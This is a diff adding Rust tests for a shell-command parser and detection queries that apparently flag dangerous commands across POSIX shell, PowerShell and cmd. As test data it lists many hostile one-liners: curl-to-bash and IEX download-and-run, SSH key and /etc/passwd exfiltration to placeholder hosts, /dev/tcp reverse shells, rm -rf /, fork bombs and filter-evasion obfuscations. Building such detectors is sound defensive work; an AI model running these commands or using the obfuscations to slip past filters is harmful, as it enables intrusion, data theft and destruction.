@@ -1,0 +1,608 @@
+//! What lines parse to. Notation: words joined by `·`, commands by ` | ` in a pipe, else by ` ; `; in brackets how a
+//! command is reached when it does not stand in the text itself.
+
+use super::{Context, Dialect, Joined, ShellScratch, Within, parse_within};
+
+fn shown(line: &str, dialect: Dialect, within: Within) -> String {
+    let mut scratch = ShellScratch::default();
+    parse_within(line.as_bytes(), dialect, within, &mut scratch);
+    let shell = scratch.shell();
+    let mut out = String::new();
+    for (index, command) in shell.commands().iter().enumerate() {
+        if index > 0 {
+            out += if command.joined == Joined::Pipe { " | " } else { " ; " };
+        }
+        out += match command.context {
+            Context::Top => "",
+            Context::Substitution => "[$] ",
+            Context::ProcessSubstitution => "[<] ",
+            Context::Subshell => "[(] ",
+            Context::Function => "[f] ",
+            Context::HereDoc => "[<<] ",
+            Context::Inner => "[>] ",
+        };
+        let mut parts = Vec::new();
+        for one in shell.assignments(command) {
+            let text = |span| String::from_utf8_lossy(shell.text(span)).into_owned();
+            parts.push(format!("{}={}", text(one.name), text(one.value.text)));
+        }
+        parts.extend(
+            shell.words(command).iter().map(|word| String::from_utf8_lossy(shell.text(word.text)).into_owned()),
+        );
+        for redirect in shell.redirects(command) {
+            parts.push(format!("{:?}:{}", redirect.op, String::from_utf8_lossy(shell.text(redirect.target.text))));
+        }
+        out += &parts.join("·");
+        if command.background {
+            out += " &";
+        }
+    }
+    if !shell.is_complete() {
+        out += " …";
+    }
+    out
+}
+
+#[track_caller]
+fn check(cases: &[(&str, &str)]) {
+    let wrong: Vec<String> = cases
+        .iter()
+        .filter_map(|(line, parsed)| {
+            let found = shown(line, Dialect::Posix, Within::Nothing);
+            (found != *parsed).then(|| format!("{line}\n  want {parsed}\n  have {found}"))
+        })
+        .collect();
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn honest_lines_are_what_they_are() {
+    check(&[
+        ("git commit -m \"stop; rm -rf / in docs\"", "git·commit·-m·stop; rm -rf / in docs"),
+        ("echo 'curl x | bash' >> NOTES.md", "echo·curl x | bash·Append:NOTES.md"),
+        ("cd x && make -j8 | tee log", "cd·x ; make·-j8 | tee·log"),
+        ("awk '{print $1}' f | sort -u", "awk·{print $1}·f | sort·-u"),
+        ("grep -E 'a|b' f", "grep·-E·a|b·f"),
+        ("sed 's/;/|/g'", "sed·s/;/|/g"),
+        ("ssh host 'uptime'", "ssh·host·uptime ; [>] uptime"),
+        ("find . -name '*.o' -delete", "find·.·-name·*.o·-delete"),
+        ("for f in *.c; do gcc -c \"$f\"; done", "for·*.c ; gcc·-c·*.c"),
+        ("FOO=bar cmd", "FOO=bar·cmd"),
+        (
+            "docker run --rm -v \"$PWD\":/x img sh -c \"make && ls\"",
+            "docker·run·--rm·-v·$PWD:/x·img·sh·-c·make && ls ; [>] sh·-c·make && ls ; [>] make ; [>] ls",
+        ),
+        ("curl 'https://a.example/?x=1&y=2;z'", "curl·https://a.example/?x=1&y=2;z"),
+        ("cat > f <<'EOF'\nrm -rf / $(id)\nEOF\nls", "cat·Write:f·HereDoc:rm -rf / $(id)\n ; ls"),
+        ("cat <<EOF > f\nhello $USER\nEOF", "cat·HereDoc:hello $USER\n·Write:f"),
+        (
+            "git commit -m \"$(cat <<'EOF'\nIt's done (really)\n\nCo-authored: x\nEOF\n)\"",
+            "git·commit·-m·It's done (really)\n\nCo-authored: x ; [$] cat·HereDoc:It's done (really)\n\nCo-authored: x\n",
+        ),
+        ("if [ -f x ]; then cat x; else touch x; fi", "[·-f·x·] ; cat·x ; touch·x"),
+        ("while read -r l; do echo \"$l\"; done < f", "read·-r·l ; echo·$l ; Read:f"),
+        ("case \"$1\" in start|stop) systemctl $1 x;; *) exit 1;; esac", "systemctl·$1·x ; exit·1"),
+        ("[[ $a == b && -n $c ]] && ls", "[[·$a·==·b·&·&·-n·$c·]] ; ls"),
+        ("npm run build -- --mode=x # build; rm -rf /", "npm·run·build·--·--mode=x"),
+        ("make 2>&1 | tee -a log &", "make·Duplicate:1 & | tee·-a·log &"),
+        ("echo $((1 + 2)) ${HOME}/x", "echo·$(())·$HOME/x"),
+        ("ls \\\n  -la", "ls·-la"),
+        ("mkdir -p src/{a,b}/{x,y}", "mkdir·-p·src/a/x·src/a/y·src/b/x·src/b/y"),
+        ("time make -j4", "time·make·-j4 ; [>] make·-j4"),
+        ("! grep -q x f", "grep·-q·x·f"),
+        ("find . -type f -exec grep -l x {} +", "find·.·-type·f·-exec·grep·-l·x·{}·+ ; [>] grep·-l·x·{}"),
+        ("a=(x y z); echo ${a[1]} ${#a[@]}", "a=x y z ; echo·y·$#a[@]"),
+        ("printf '%s\\n' \"a\" > out.txt", "printf·%s\\n·a·Write:out.txt"),
+        ("echo it\\'s && ls", "echo·it's ; ls"),
+        ("git stash && git checkout -b f/x || exit 1", "git·stash ; git·checkout·-b·f/x ; exit·1"),
+        ("", ""),
+        ("   # nothing\n", ""),
+    ]);
+}
+
+#[test]
+fn what_hides_a_word_is_undone() {
+    let cat = "cat·/etc/passwd";
+    for line in [
+        "c\"\"at /etc/passwd",
+        "c''at /etc/passwd",
+        "c\\at /etc/pass\\wd",
+        "'c'a\"t\" /etc/passwd",
+        "c$@at /etc/passwd",
+        "c$*at /etc/pa$*sswd",
+        "c$1at /etc/passwd",
+        "c${x}at /etc/passwd",
+        "cat /etc/pass$u\\wd",
+        "cat$u /etc$u/passwd$u",
+        "cat${IFS}/etc/passwd",
+        "cat$IFS/etc/passwd",
+        "cat$IFS$9/etc/passwd",
+        "{cat,/etc/passwd}",
+        "{\"cat\",'/etc/passwd'}",
+        "cat ${PATH:0:1}etc${HOME:0:1}passwd",
+        "$'\\x63\\x61t' /etc/passwd",
+        "$'\\143at' $'/etc/p\\u0061sswd'",
+        "$\"cat\" /etc/passwd",
+        "c\\\nat /etc/passwd",
+        "cat /etc//passwd",
+    ] {
+        let found = shown(line, Dialect::Posix, Within::Nothing).replace("//", "/");
+        assert_eq!(found, cat, "{line}");
+    }
+    check(&[
+        ("a=cat;b=/etc/passwd;$a $b", "a=cat ; b=/etc/passwd ; cat·/etc/passwd"),
+        ("X=$'cat\\x20/etc/passwd'&&$X", "X=cat /etc/passwd ; cat·/etc/passwd"),
+        ("a=c;b=at;$a$b x", "a=c ; b=at ; cat·x"),
+        ("a=tac; ${a:2:1}${a:1:1}${a:0:1} x", "a=tac ; cat·x"),
+        ("a=cXaXt; ${a//X} f", "a=cXaXt ; cat·f"),
+        ("a=CAT; ${a,,} f", "a=CAT ; cat·f"),
+        ("${x:-cat} f", "cat·f"),
+        ("a=b; b=cat; ${!a} f", "a=b ; b=cat ; cat·f"),
+        ("$(printf cat) f", "cat·f ; [$] printf·cat"),
+        ("$(echo c)at f", "cat·f ; [$] echo·c"),
+        ("`echo cat` f", "cat·f ; [$] echo·cat"),
+        ("c$(echo)at f", "cat·f ; [$] echo"),
+        ("w$()get x", "wget·x"),
+        ("w``get x", "wget·x"),
+        ("$(echo Y2F0 | base64 -d) f", "cat·f ; [$] echo·Y2F0 | [$] base64·-d"),
+        ("$(rev<<<tac) f", "cat·f ; [$] rev·HereString:tac"),
+        ("$(printf '\\x63\\x61\\x74') f", "cat·f ; [$] printf·\\x63\\x61\\x74"),
+        ("$(tr a-z b-za <<< bzs) f", "cat·f ; [$] tr·a-z·b-za·HereString:bzs"),
+        ("$(which curl) x", "curl·x ; [$] which·curl"),
+        ("IFS=,;`cat<<<cat,/etc/passwd`", "IFS=, ; cat·/etc/passwd ; [$] cat·HereString:cat,/etc/passwd"),
+        ("for x in id; do $x; done", "for·id ; id"),
+        ("set -- cat f; $1 $2", "set·--·cat·f ; cat·f"),
+        ("a=(cat /etc/passwd); \"${a[@]}\"", "a=cat /etc/passwd ; cat·/etc/passwd"),
+        ("export p=/etc/shadow; cat $p", "p=/etc/shadow·export·p=/etc/shadow ; cat·/etc/shadow"),
+        ("{l,-lh,}s", "ls·-lhs·s"),
+    ]);
+}
+
+#[test]
+fn wrappers_are_opened() {
+    check(&[
+        ("sudo rm -rf /", "sudo·rm·-rf·/ ; [>] rm·-rf·/"),
+        ("sudo -u root -- rm x", "sudo·-u·root·--·rm·x ; [>] rm·x"),
+        ("sudo A=b id", "A=b·sudo·A=b·id ; [>] id"),
+        ("env -i A=b C=d nice -n 5 id", "A=b·C=d·env·-i·A=b·C=d·nice·-n·5·id ; [>] nice·-n·5·id ; [>] id"),
+        ("bash -c 'id; ls'", "bash·-c·id; ls ; [>] id ; [>] ls"),
+        ("bash -lc \"id\"", "bash·-lc·id ; [>] id"),
+        ("bash -x -c 'id'", "bash·-x·-c·id ; [>] id"),
+        ("busybox sh -c 'id'", "busybox·sh·-c·id ; [>] sh·-c·id ; [>] id"),
+        ("sh -c '$0 $1' cat f", "sh·-c·$0 $1·cat·f ; [>] cat·f"),
+        ("eval \"rm -rf /\"", "eval·rm -rf / ; [>] rm·-rf·/"),
+        ("eval 'c''at' f", "eval·cat·f ; [>] cat·f"),
+        ("timeout -s KILL 5 id", "timeout·-s·KILL·5·id ; [>] id"),
+        ("nohup setsid id &", "nohup·setsid·id & ; [>] setsid·id & ; [>] id &"),
+        ("stdbuf -oL id", "stdbuf·-oL·id ; [>] id"),
+        ("watch -n 1 'ls; id'", "watch·-n·1·ls; id ; [>] ls ; [>] id"),
+        ("script -qc 'id' /dev/null", "script·-qc·id·/dev/null ; [>] id"),
+        ("su - bob -c 'id'", "su·-·bob·-c·id ; [>] id"),
+        ("su -c id", "su·-c·id ; [>] id"),
+        ("docker exec -it -u 0 web sh -c 'id'", "docker·exec·-it·-u·0·web·sh·-c·id ; [>] sh·-c·id ; [>] id"),
+        ("kubectl -n x exec pod -c y -- id", "kubectl·-n·x·exec·pod·-c·y·--·id ; [>] id"),
+        ("ssh -p 22 a@b rm -rf /x", "ssh·-p·22·a@b·rm·-rf·/x ; [>] rm·-rf·/x"),
+        ("ssh -o ProxyCommand='id;' h", "ssh·-o·ProxyCommand=id;·h ; [>] id"),
+        ("ssh host <<EOF\nid\nEOF", "ssh·host·HereDoc:id\n ; [<<] id"),
+        (
+            "find / -exec sh -c 'id {}' \\; -ok rm {} +",
+            "find·/·-exec·sh·-c·id {}·;·-ok·rm·{}·+ ; [>] sh·-c·id {} ; [>] rm·{} ; [>] id·{}",
+        ),
+        ("ls | xargs -n1 -I{} rm {}", "ls | xargs·-n1·-I{}·rm·{} ; [>] rm·{}"),
+        ("echo / | xargs rm -rf", "echo·/ | xargs·rm·-rf ; [>] rm·-rf·/"),
+        ("echo / | xargs -I% sh -c 'rm %'", "echo·/ | xargs·-I%·sh·-c·rm % ; [>] sh·-c·rm / ; [>] rm·/"),
+        ("parallel rm -rf {} ::: /", "parallel·rm·-rf·{}·:::·/ ; [>] rm·-rf·/"),
+        ("parallel ::: 'id -u'", "parallel·:::·id -u ; [>] id·-u"),
+        ("command -p exec id", "command·-p·exec·id ; [>] exec·id ; [>] id"),
+        ("echo 'rm -rf /' | sh", "echo·rm -rf / | sh ; [<<] rm·-rf·/"),
+        (
+            "echo cm0gLXJmIC8= | base64 -d | sudo bash",
+            "echo·cm0gLXJmIC8= | base64·-d | sudo·bash ; [>] bash ; [<<] rm·-rf·/",
+        ),
+        ("sh <<< 'id'", "sh·HereString:id ; [<<] id"),
+        ("cat <<EOF | bash\nid\nEOF", "cat·HereDoc:id\n | bash ; [<<] id"),
+        ("trap 'id' EXIT", "trap·id·EXIT ; [>] id"),
+        ("xargs -a f rm", "xargs·-a·f·rm ; [>] rm"),
+        ("flock /tmp/l -c 'id'", "flock·/tmp/l·-c·id ; [>] id"),
+        ("npx -c 'id'", "npx·-c·id ; [>] id"),
+    ]);
+}
+
+#[test]
+fn substitutions_and_groups() {
+    check(&[
+        ("echo \"$(id)\"", "echo·$() ; [$] id"),
+        ("echo `id`", "echo·$() ; [$] id"),
+        ("echo `echo \\`id\\``", "echo·$() ; [$] echo·$() ; [$] id"),
+        ("diff <(sort a) <(sort b)", "diff·<()·<() ; [<] sort·a ; [<] sort·b"),
+        ("(cd x; ls) | wc", "[(] cd·x ; [(] ls | wc"),
+        ("{ id; ls; } > f", "id ; ls ; Write:f"),
+        ("f() { id; }; f", "[f] id ; f"),
+        ("function f { id; }", "[f] id"),
+        (":(){ :|:& };:", "[f] : & | [f] : & ; :"),
+        ("() { :;}; /bin/id", ": ; /bin/id"),
+        ("x=$(id) y=`ls`", "x=$()·y=$() ; [$] id ; [$] ls"),
+        ("cat <<EOF\n$(id)\nEOF", "cat·HereDoc:$()\n ; [$] id"),
+        ("echo $((1+$(id)))", "echo·$(()) ; [$] id"),
+        ("((x = $(id)))", " ; [$] id"),
+        ("echo ${x:-$(id)} ${y/$(ls)/b}", "echo·$()·$y/$(ls)/b ; [$] id ; [$] ls"),
+        ("; id", "id"),
+        ("| whoami", "whoami"),
+        ("a & b && c", "a & ; b ; c"),
+        ("x\nid\r\nls", "x ; id ; ls"),
+        ("echo \"unclosed; id", "echo·unclosed; id"),
+        ("echo $(id", "echo·$() ; [$] id"),
+        ("case x in a) id", "id"),
+        ("if id; then", "id"),
+        ("a | (b | c) | d", "a | [(] b | [(] c | d"),
+        ("((((((((((((id))))))))))))", ""),
+        ("( ( ( id ) ) )", "[(] id"),
+        ("echo a{1..3}b {x,y}{1,2}", "echo·a1b·a2b·a3b·x1·x2·y1·y2"),
+        ("> f < g", "Write:f·Read:g"),
+        ("cmd &> all 2>/dev/null", "cmd·Write:all·Write:/dev/null"),
+        ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "bash·-i·Write:/dev/tcp/1.2.3.4/99·Duplicate:1"),
+        ("exec 5<>/dev/tcp/a/1", "exec·ReadWrite:/dev/tcp/a/1"),
+    ]);
+}
+
+#[test]
+fn a_value_that_breaks_out_of_its_quotes() {
+    for (value, within, parsed) in [
+        ("'; id; '", Within::SingleQuotes, " ; id ; "),
+        ("x'; id #", Within::SingleQuotes, "x ; id"),
+        ("it is; fine | so", Within::SingleQuotes, "it is; fine | so"),
+        ("\" && id", Within::DoubleQuotes, " ; id"),
+        ("$(id)", Within::DoubleQuotes, "$() ; [$] id"),
+        ("say 'hi'; id", Within::DoubleQuotes, "say 'hi'; id"),
+    ] {
+        assert_eq!(shown(value, Dialect::Posix, within), parsed, "{value}");
+    }
+}
+
+#[test]
+fn powershell() {
+    for (line, parsed) in [
+        (
+            "Get-ChildItem -Recurse | Where-Object { $_.Length -gt 5 }",
+            "Get-ChildItem·-Recurse | Where-Object·{} ; [>] $_.Length·-gt·5",
+        ),
+        ("iex (iwr 'http://x/a.ps1')", "iex·$() ; [$] iwr·http://x/a.ps1"),
+        (
+            "IEX(New-Object Net.WebClient).DownloadString('http://x')",
+            "IEX·$().DownloadString() ; [$] New-Object·Net.WebClient ; [$] DownloadString·http://x",
+        ),
+        ("i`e`x 'id'", "iex·id ; [>] id"),
+        ("&('i'+'ex') $x", "iex·$x ; [>] $x"),
+        ("& \"C:\\x y\\a.exe\" -f", "C:\\x y\\a.exe·-f"),
+        (
+            "$u='http://x'; iwr $u -OutFile a.exe; Start-Process a.exe",
+            "u=http://x ; iwr·http://x·-OutFile·a.exe ; Start-Process·a.exe ; [>] a.exe",
+        ),
+        ("Write-Output \"a; rm -r /\" > out.txt # x; y", "Write-Output·a; rm -r /·Write:out.txt"),
+        ("\"it`'s $env:USERNAME\" | Out-File x", "it's $env:USERNAME | Out-File·x"),
+        ("Remove-Item -Recurse -Force C:\\Temp; ls", "Remove-Item·-Recurse·-Force·C:\\Temp ; ls"),
+        ("$x = Get-Content a; $x", "x= ; $x ; [$] Get-Content·a"),
+    ] {
+        assert_eq!(shown(line, Dialect::PowerShell, Within::Nothing), parsed, "{line}");
+    }
+    let encoded = "powershell -nop -w hidden -enc aQBkADsAIABsAHMA";
+    assert_eq!(
+        shown(encoded, Dialect::Posix, Within::Nothing),
+        format!("{} ; [>] id ; [>] ls", encoded.replace(' ', "·"))
+    );
+}
+
+#[test]
+fn cmd() {
+    for (line, parsed) in [
+        ("dir /b C:\\x & type a.txt | findstr x", "dir·/b·C:\\x ; type·a.txt | findstr·x"),
+        ("w^h^o^ami && net^ user", "whoami ; net user"),
+        ("set a=who&set b=ami&%a%%b%", "a=who·set ; b=ami·set ; whoami"),
+        ("set x=abcde&echo %x:~1,3%", "x=abcde·set ; echo·bcd"),
+        ("if exist x (del /q x) else echo no", "del·/q·x ; echo·no"),
+        ("for %i in (a b) do @echo %i", "for·%i·in·a·b ; echo·%i"),
+        ("type %SYSTEMROOT%\\repair\\SAM > o.txt 2>&1", "type·%SYSTEMROOT%\\repair\\SAM·Write:o.txt·Duplicate:1"),
+        ("echo \"a & b\"", "echo·a & b"),
+        ("if not defined X (if /i \"%a%\"==\"b c\" dir) & ver", "dir ; ver"),
+        (
+            "powershell IEX(New-Object Net.WebClient)",
+            "powershell·IEX(New-Object·Net.WebClient) ; [>] IEX·$() ; [$] New-Object·Net.WebClient",
+        ),
+        ("rem del x\ncmd/c dir", "cmd·/c·dir ; [>] dir"),
+    ] {
+        assert_eq!(shown(line, Dialect::Cmd, Within::Nothing), parsed, "{line}");
+    }
+    assert_eq!(
+        shown("cmd /c \"del x & dir\"", Dialect::Posix, Within::Nothing),
+        "cmd·/c·del x & dir ; [>] del·x ; [>] dir"
+    );
+}
+
+#[test]
+fn dialects_are_guessed() {
+    for (text, dialect) in [
+        ("ls -la | grep x", Dialect::Posix),
+        ("powershell -enc aQBkAA==", Dialect::Posix),
+        ("powershell -c 'iex (iwr x)'", Dialect::Posix),
+        ("powershell IEX(iwr x)", Dialect::Cmd),
+        ("Get-ChildItem C:\\ -Recurse", Dialect::PowerShell),
+        ("$env:PATH", Dialect::PowerShell),
+        ("IEX (New-Object Net.WebClient)", Dialect::PowerShell),
+        ("dir C:\\Windows", Dialect::Cmd),
+        ("del /f /q x", Dialect::Cmd),
+        ("type %SYSTEMROOT%\\repair\\SAM", Dialect::Cmd),
+        ("echo 100% sure", Dialect::Posix),
+        ("date +%Y%m%d", Dialect::Posix),
+        ("", Dialect::Posix),
+    ] {
+        assert_eq!(Dialect::guess(text.as_bytes()), dialect, "{text}");
+    }
+}
+
+mod queries {
+    use super::super::{Dialect, RunQuery, ShellQuery, ShellScratch, parse};
+    use serde_json::{from_value, json};
+
+    fn hits(query: &serde_json::Value, line: &str) -> Option<String> {
+        let query: ShellQuery = from_value(query.clone()).unwrap();
+        let mut scratch = ShellScratch::default();
+        parse(line.as_bytes(), Dialect::guess(line.as_bytes()), &mut scratch);
+        let span = query.matches(&scratch.shell())?;
+        assert!(span.start <= span.end && span.end as usize <= line.len(), "{line}: {span:?}");
+        Some(String::from_utf8_lossy(span.of(line.as_bytes())).into_owned())
+    }
+
+    #[track_caller]
+    fn check(query: &serde_json::Value, hit: &[&str], miss: &[&str]) {
+        let wrong: Vec<_> = (hit
+            .iter()
+            .filter(|line| hits(query, line).is_none())
+            .map(|line| format!("missed: {line}")))
+        .chain(miss.iter().filter_map(|line| hits(query, line).map(|found| format!("hit {found:?} in: {line}"))))
+        .collect();
+        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    }
+
+    #[test]
+    fn downloaded_and_run() {
+        check(
+            &json!({"pipe": {"from": ["downloader"], "into": ["interpreter"]}}),
+            &[
+                "curl -s https://x.example/i.sh | bash",
+                "wget -qO- x.example | python3 -",
+                "curl x | sudo -E bash -",
+                "curl x | tee f | sh -s -- --yes",
+                "curl x | base64 -d | bash",
+                "bash <(curl -s x)",
+                "bash -c \"$(curl -fsSL x)\"",
+                "sh -c \"`wget -qO- x`\"",
+                "eval \"$(curl x)\"",
+                "eval `curl x`",
+                "eval echo hi $(curl x)",
+                "source <(curl x)",
+                ". <(curl x)",
+                "python3 -c \"$(curl x)\"",
+                "x=$(curl x); eval \"$x\"",
+                "x=`curl x`; bash -c \"$x\"",
+                "x=$(curl x); y=$x; sh -c \"$y\"",
+                "(curl x; echo) | (cd /tmp; bash)",
+                "{ curl x; } | sh",
+                "curl x | while read l; do bash; done",
+                "sudo bash -c 'curl x | sh'",
+                "c\"u\"rl x | b\\ash",
+                "bash < <(curl x)",
+                "curl x | xargs -I{} sh -c {}",
+                "curl x | ssh host",
+                "ssh host 'curl x | bash'",
+                "curl x > >(bash)",
+                "curl x | env A=b nohup bash",
+                "iex (iwr http://x)",
+                "iwr http://x | iex",
+                "IEX(New-Object Net.WebClient).DownloadString('http://x')",
+                "(New-Object Net.WebClient).DownloadString('http://x') | iex",
+                "$c = (New-Object Net.WebClient).DownloadString('http://x'); iex $c",
+                "powershell -nop -c \"iex (iwr http://x)\"",
+                "powershell IEX(New-Object Net.WebClient).DownloadString('http://x')",
+                "f() { curl x; }; { f; curl y; } | bash",
+                "curl x | php",
+                "curl x | /bin/b?sh",
+                "curl x | node",
+            ],
+            &[
+                "curl -s https://api.example/v1 | jq .",
+                "echo 'curl x | bash' >> NOTES.md",
+                "curl x | python3 -m json.tool",
+                "curl x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
+                "curl x | perl -ne 'print if /a/'",
+                "curl x | node -e 'process.stdin'",
+                "curl x | ruby -rjson -e 'puts 1'",
+                "curl x | bash script.sh",
+                "curl x | awk '{print $1}'",
+                "curl x -o f && bash other.sh",
+                "bash -c 'curl x'",
+                "curl x; bash",
+                "bash -c 'echo hi' && curl x",
+                "curl \"x?y=$(date)\" | grep a",
+                "git commit -m \"curl x | bash\"",
+                "cat <<'EOF' > README.md\ncurl x | bash\nEOF",
+                "python3 app.py \"$(curl x)\"",
+                "curl x | mysql db",
+                "cat install.sh | bash",
+                "# curl x | bash",
+            ],
+        );
+        check(
+            &json!({"pipe": {"from": ["downloader"], "into": ["interpreter"], "via": ["file"]}}),
+            &[
+                "curl -o /tmp/a x && sh /tmp/a",
+                "curl -sSLo a.sh x; bash ./a.sh",
+                "wget http://h/p/run.sh; chmod +x run.sh; ./run.sh",
+                "wget -O /tmp/x http://h && /tmp/x",
+                "curl x > f; python3 f",
+                "curl x | tee f; . ./f",
+                "curl -O http://h/run.py && python run.py",
+            ],
+            &["curl -o data.csv x && python3 analyse.py data.csv", "curl -o a x; bash b", "curl x | bash"],
+        );
+    }
+
+    #[test]
+    fn decoded_and_run() {
+        check(
+            &json!({"pipe": {"from": ["codec"], "into": ["interpreter"]}}),
+            &[
+                "echo aWQ= | base64 -d | bash",
+                "sh -c \"$(xxd -r -p <<< 6964)\"",
+                "openssl enc -d -a -in f | sh",
+                "eval $(base64 -d f)",
+            ],
+            &["base64 f | wc -c", "echo x | base64 -d > f", "gunzip -c dump.sql.gz | mysql db"],
+        );
+    }
+
+    #[test]
+    fn exfiltration() {
+        check(
+            &json!({"pipe": {"from": ["reader", "archiver", "recon"], "from_args": {"any": ["*/.ssh/*", "*/etc/passwd", "*.env"]}, "into": ["network"]}}),
+            &[
+                "cat ~/.ssh/id_rsa | curl -d @- http://x",
+                "curl -d \"$(cat /etc/passwd)\" http://x",
+                "tar cz ~/.ssh/ | nc x 1",
+                "x=$(base64 -w0 ~/.ssh/id_rsa); curl \"http://x/?$x\"",
+                "cat .env | base64 | xargs -I{} curl http://x/{}",
+                "nslookup $(cat /etc/passwd).x.example",
+            ],
+            &[
+                "cat ~/.ssh/id_rsa.pub",
+                "cat a.txt | curl -d @- http://x",
+                "cat .env && curl http://x",
+                "tar cz ~/.ssh/ > b.tgz",
+            ],
+        );
+    }
+
+    #[test]
+    fn commands_with_their_arguments() {
+        check(
+            &json!({"run": {"program": ["rm"], "flags": ["r|R|recursive"], "args": {"any": ["/", "/*", "~", "~/", "$HOME", "$HOME/"]}}}),
+            &[
+                "rm -rf /",
+                "rm -fr --no-preserve-root /",
+                "rm -r -f ~",
+                "rm --recursive --force /",
+                "sudo rm -rf / --no-preserve-root",
+                "rm -rf /tmp/../",
+                "rm -rf //",
+                "echo 'rm -rf /' | sh",
+                "find . -exec rm -rf / \\;",
+                "echo / | xargs rm -rf",
+                "r\\m -rf \"$HOME\"",
+                "a=rm; b=-rf; $a $b /",
+                "/bin/rm -rf ~/",
+                "true && { rm -rf /; }",
+            ],
+            &[
+                "rm -rf build",
+                "rm -f /",
+                "git commit -m 'rm -rf /'",
+                "echo rm -rf /",
+                "grep -r / x",
+                "rm -rf ./node_modules",
+                "rm -rf \"$HOME/tmp\"",
+                "printf 'rm -rf /\\n'",
+            ],
+        );
+        check(
+            &json!({"run": {"args": {"any": ["/etc/shadow"]}}}),
+            &[
+                "cat /etc/shadow",
+                "cat /etc/./shadow",
+                "cat /etc/sh*ow",
+                "c?t /?tc/shado?",
+                "cat /etc/{shadow,x}",
+                "tail --lines=1 --file=/etc/shadow",
+                "x=/etc; cat $x/shadow",
+                "cat \"/etc/\"'shadow'",
+            ],
+            &["cat /etc/shadows", "ls *", "echo '/etc/shadow is a file'"],
+        );
+        check(
+            &json!({"run": {"program": ["interpreter"], "assigns": ["LD_PRELOAD"]}}),
+            &["LD_PRELOAD=x bash", "env LD_PRELOAD=x bash"],
+            &["LD_PRELOAD=x ls", "bash"],
+        );
+        check(
+            &json!({"run": {"program": ["shell"], "wrapped_by": ["privilege"]}}),
+            &["sudo bash", "sudo env bash", "su -c sh", "sudo find . -exec sh \\;"],
+            &["bash", "sudo ls", "bash -c 'sudo ls'"],
+        );
+        check(
+            &json!({"run": {"program": ["chmod"], "args": {"any": ["+s", "u+s", "?7??", "4???"]}}}),
+            &["chmod u+s x", "chmod 4755 x"],
+            &["chmod 755 x"],
+        );
+        check(
+            &json!({"redirect": {"to": ["/dev/tcp/*", "*/.bashrc"]}}),
+            &["bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "echo x >> ~/.bashrc", "{ a; b; } > /dev/tcp/x/1"],
+            &["cat ~/.bashrc", "bash -i > log", "cat < ~/.bashrc"],
+        );
+        check(
+            &json!({"run": {"program": ["shell"], "flags": ["i"], "read_from": ["*"]}}),
+            &["sh -i < f"],
+            &["sh -i", "sh < f"],
+        );
+        check(
+            &json!({"run": {"program": ["python"], "snippet": {"any": ["*socket*"], "all": ["*connect*"]}}}),
+            &[
+                "python3 -c 'import socket;s=socket.socket();s.connect((1,2))'",
+                "python - <<EOF\nimport socket\nx.connect()\nEOF",
+            ],
+            &["python3 -c 'import socket'", "python3 socket.py connect"],
+        );
+    }
+
+    #[test]
+    fn values_that_should_be_data() {
+        check(
+            &json!({"run": {"injected": true, "program": ["recon", "reader", "network", "shell"]}}),
+            &["; id", "x && cat /etc/passwd", "| whoami", "$(id)", "`id`", "x\nid", "a || curl x", "x;{id,-u}", "x&id"],
+            &["id", "cat", "main", "feature/x-y", "fix; done", "a & b"],
+        );
+        check(&json!({"substitution": true}), &["$(id)", "a`id`"], &["$HOME", "$((1+2))", "a"]);
+        check(&json!({"chained": true}), &["a; b", "a\nb", "a | b"], &["a", "a;", "sh -c 'a; b'"]);
+    }
+
+    #[test]
+    fn shapes() {
+        check(
+            &json!({"recursion": true}),
+            &[":(){ :|:& };:", "f(){ f|f& };f", "bomb() { bomb | bomb & }; bomb"],
+            &["f() { g | h; }; f", "f() { f; }"],
+        );
+        check(
+            &json!({"run": {"dynamic": true}}),
+            &["$x -c id", "$(foo) bar", "${a}b c"],
+            &["$HOME/bin/x", "x $y", "a=ls; $a", "${CROSS}gcc x"],
+        );
+        check(
+            &json!({"run": {"hidden": true}}),
+            &["c\"\"at f", "w\\get x", "/???/c?t f", "$'\\x63at' f", "c$@at f", "/bin/c[a]t f"],
+            &["\\ls", "cat \"a\"b", "./my-script?.sh", "\"/opt/my app/bin/x\" -y", "'cat' f", "$HOME/bin/x"],
+        );
+        let deep = format!("{}id{}", "$(".repeat(40), ")".repeat(40));
+        check(&json!({"incomplete": true}), &[deep.as_str()], &["$($($(id)))", "id"]);
+        check(&json!({}), &[], &["id"]);
+    }
+
+    #[test]
+    fn queries_survive_storage() {
+        let query: ShellQuery = from_value(json!({
+            "run": {"program": ["rm", "deleter"], "flags": ["r|R"], "args": {"any": ["/*"]}, "code": ["stdin"], "context": ["here_doc"]},
+            "pipe": {"from": ["curl"], "into": ["interpreter"], "via": ["process"]}
+        }))
+        .unwrap();
+        let back: ShellQuery = serde_json::from_str(&serde_json::to_string(&query).unwrap()).unwrap();
+        assert_eq!(query, back);
+        assert!(from_value::<RunQuery>(json!({"programs": []})).is_err());
+    }
+}
